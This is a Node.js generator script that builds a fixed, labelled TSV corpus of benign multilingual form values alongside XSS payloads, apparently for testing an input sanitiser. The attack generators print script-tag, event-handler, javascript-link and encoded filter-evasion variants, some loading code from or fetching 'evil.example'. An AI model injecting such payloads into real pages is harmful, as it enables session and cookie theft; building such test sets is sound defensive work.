// Makes share/sample/values.tsv: a few thousand values as forms and feeds bring them, each with a label that
// says what it is. Labels beginning with "fine:" should pass a check, those beginning with "attack:" should not;
// nothing here is arranged by what a check happens to find.
//
//   node tools/make_sample.mjs           writes the file
//   node tools/make_sample.mjs --check   compares it instead
//
// Every value is put together from the word lists below by a generator with a fixed start, so the file is the
// same everywhere. No value has a tab or a line's end in it.

import { readFileSync, writeFileSync } from 'node:fs';

// A 32-bit xorshift: plain, the same on every machine.
let state = 0x2545f491;
const random = (below) => {
  state ^= state << 13;
  state ^= state >>> 17;
  state ^= state << 5;
  return (state >>> 0) % below;
};
const pick = (list) => list[random(list.length)];
const times = (count, make) => Array.from({ length: count }, make);

const names = {
  latin: [['Anna', 'Björn', 'Chloé', 'Łukasz', 'Siân', 'João', 'Zoë', 'Mihály', 'Øystein', 'Nguyễn Thị', 'Jürgen',
    'Íñigo', 'Ana María', 'Émile', 'Tove', 'Þóra', 'Ağca', 'Dvořák'],
  ["O'Neill", 'Müller', 'de la Cruz', 'Škoda', 'García-López', 'van den Berg', 'Żółkiewska', 'Ångström', "D'Angelo",
    'Kovács', 'Nilsen', 'Smith', 'Le Gall', 'Yılmaz', 'Ó Súilleabháin']],
  cyrillic: [['Анна', 'Борис', 'Ольга', 'Юрій', 'Живко', 'Светлана', 'Ёлка', 'Михаил'],
    ['Петрова', 'Иванов', 'Шевченко', 'Ђорђевић', 'Щербакова', 'Соловьёв']],
  greek: [['Ελένη', 'Γιώργος', 'Αθηνά', 'Νίκος'], ['Παπαδόπουλος', 'Οικονόμου', 'Σταύρου']],
  hebrew: [['נועה', 'דוד', 'רחל'], ['כהן', 'לוי', 'מזרחי']],
  arabic: [['فاطمة', 'محمد', 'ليلى', 'یاسمن'], ['الحسن', 'منصور', 'کریمی']],
  devanagari: [['प्रिया', 'राज', 'अनिता'], ['शर्मा', 'गुप्ता', 'सिंह']],
  thai: [['สมชาย', 'มาลี'], ['ใจดี', 'ศรีสุข']],
  hangul: [['김', '이', '박'], ['서연', '민준', '지우']],
  han: [['王', '李', '佐藤', '鈴木'], ['小明', '芳', '花子', '翔太']],
};
const joined = { hangul: '', han: '' };
const name = () => {
  const script = pick(['latin', 'latin', 'latin', ...Object.keys(names)]);
  const [first, last] = names[script];
  return pick(first) + (joined[script] ?? ' ') + pick(last);
};

const sentences = [
  'Delivered on time, and well packed.', 'The second one arrived broken; I was sent a new one at once.',
  'Great value :-)', 'Colour is more green than blue, see photo.', 'Would buy again!!', 'Not for me. 2/5',
  'Battery lasts ~6 h, not 10 h as promised.', 'Size M fits me (1,78 m / 70 kg).', 'Thanks, Joe & team',
  'Costs < 20 € elsewhere, > 30 € here.', 'a < b && b > c is how I read the manual', 'if x<y then y>x, obviously',
  'Très bien, livraison rapide – merci !', 'Leider zu groß, geht zurück.', 'Köszönöm, szép munka.',
  'Отличный товар, спасибо!', 'Доставка заняла три недели…', 'Πολύ καλό, αλλά ακριβό.', 'מוצר מצוין, ממליצה',
  'منتج رائع وسعر مناسب', 'बहुत अच्छा है, धन्यवाद', '品質很好，會再買', '発送が早くて助かりました。', '정말 마음에 들어요',
  'สินค้าดีมาก', '👍👍👍', 'Love it 😍🎉', 'Family of four 👨‍👩‍👧‍👦 approves', 'I prompt everyone to try it',
  'Red alert: sold out again', 'Script was hard to read', 'The javascript course was fine', 'C:\\Users\\me\\notes.txt',
  'Please call +49 30 1234567 after 5 pm', 'SELECT your size before you order', 'Order #4711 -- still waiting',
];
const comment = () => times(1 + random(4), () => pick(sentences)).join(' ');

const hosts = ['example.org', 'shop.example.com', 'münchen.example', 'пример.example', 'example.net:8080'];
const paths = ['/', '/item/42', '/a/b/c.html', '/search?q=red+shoes&page=2', '/%D0%BF%D1%83%D1%82%D1%8C', '/路径',
  '/javascript/intro', '/script.js?v=3', '/#top', '/login?next=%2Fhome'];
const link = () => `${pick(['https', 'https', 'http'])}://${pick(hosts)}${pick(paths)}`;

const streets = ['Hauptstraße', 'rue de l’Église', 'ул. Ленина', 'Οδός Ερμού', '中山路', 'Calle Mayor', 'Main Street',
  'שדרות רוטשילד', 'نهج الحرية'];
const address = () => `${pick(streets)} ${1 + random(250)}${pick(['', '', ' a', ', 3rd floor', '/B'])}`;

const aboutCode = [
  'How do I close a <script> tag in a template?', 'Use <noscript> for readers without it',
  'In the docs it says javascript: links are discouraged', 'What does alert(1) do in the examples?',
  'Put </script> before </body>', 'Is prompt("name") still supported?', 'The <b>bold</b> tag works, <i> does not',
  'My page has < script > with blanks, is that valid?', 'window.alert is blocked here',
];

// What people try, by the way it is done.
const payload = () => pick(['alert(1)', "alert('x')", 'alert(document.cookie)', 'prompt(1)', 'fetch("//evil.example")',
  'top.location="//evil.example"', 'confirm`1`']);
const lead = () => pick(['', '', 'hi ', 'Nice! ', '"', "'>", '</b>', 'Отлично ', '好']);
const attacks = {
  'script-tag': () => lead() + pick([() => `<script>${payload()}</script>`, () => `<SCRIPT>${payload()}</SCRIPT>`,
    () => `<ScRiPt>${payload()}</sCrIpT>`, () => `</script><script>${payload()}`])(),
  'script-tag-spaced': () => lead() + pick([() => `< script >${payload()}</ script >`,
    () => `<script >${payload()}</script >`, () => `< / script>${payload()}`])(),
  'script-tag-attributes': () => lead() + pick([() => '<script src="//evil.example/x.js">',
    () => `<script type="text/javascript">${payload()}`, () => '<script\u00a0src=//evil.example>',
    () => `<script/x>${payload()}`])(),
  'javascript-link': () => pick(['javascript:', 'JavaScript:', 'JAVASCRIPT:', '<a href="javascript:']) + payload(),
  'javascript-link-hidden': () => pick(['java\u0001script:', 'javascript&colon;', '&#106;avascript:',
    'jav&#x0A;ascript:', 'vbscript:', 'data:text/html;base64,PHNjcmlwdD4=#']) + payload(),
  'event-handler': () => lead() + pick([() => `<img src=x onerror=${payload()}>`, () => `<svg onload=${payload()}>`,
    () => `<body onload="${payload()}">`, () => `<input autofocus onfocus=${payload()}>`,
    () => `" onmouseover="${payload()}`])(),
  'bare-call': () => pick([payload, () => `alert  (${random(100)})`, () => `prompt (document.domain)`,
    () => `');${payload()};//`])(),
  encoded: () => lead() + pick(['%3Cscript%3Ealert(1)%3C/script%3E', '&lt;script&gt;alert(1)&lt;/script&gt;',
    '\\u003cscript\\u003ealert(1)', '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e', '+ADw-script+AD4-alert(1)',
    '&#60;script&#62;', '<scr\u200bipt>alert(1)</scr\u200bipt>', '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<\u017fcript>alert(1)</\u017fcript>']),
  'frame-or-style': () => lead() + pick(['<iframe src="//evil.example">', '<object data="x.swf">',
    '<style>@import "//evil.example"</style>', '<div style="background:url(javascript:alert(1))">',
    '<meta http-equiv=refresh content="0;url=//evil.example">', '<base href="//evil.example">']),
};

const kinds = [
  [1100, 'fine:name', name],
  [1000, 'fine:comment', comment],
  [600, 'fine:link', link],
  [400, 'fine:address', address],
  [60, 'fine:about-code', () => pick(aboutCode)],
  ...Object.entries(attacks).map(([label, make]) => [60, `attack:${label}`, make]),
];

const rows = kinds.flatMap(([count, label, make]) => times(count, () => `${label}\t${make()}`));
for (let index = rows.length - 1; index > 0; --index) {
  const other = random(index + 1);
  [rows[index], rows[other]] = [rows[other], rows[index]];
}
const text = rows.join('\n') + '\n';
const file = new URL('../share/sample/values.tsv', import.meta.url);
if (process.argv[2] !== '--check') writeFileSync(file, text);
else if (readFileSync(file, 'utf8') !== text) {
  console.error('share/sample/values.tsv is not what tools/make_sample.mjs makes');
  process.exit(1);
}
